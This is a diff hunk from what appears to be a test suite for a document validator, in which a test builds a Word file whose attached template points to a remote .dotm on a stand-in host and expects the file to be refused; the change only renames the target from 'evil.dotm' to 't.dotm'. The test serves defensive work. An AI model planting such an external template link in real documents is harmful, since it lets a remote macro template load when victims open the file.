@@ -272,7 +272,7 @@ def imported_file() -> Refused:
 def template_from_outside() -> Refused:
     rels = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://x.example/evil.dotm" TargetMode="External"/>'
+        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/>'
         "</Relationships>"
     )
     file = docx(paragraph(SAID), parts={"word/_rels/settings.xml.rels": rels})
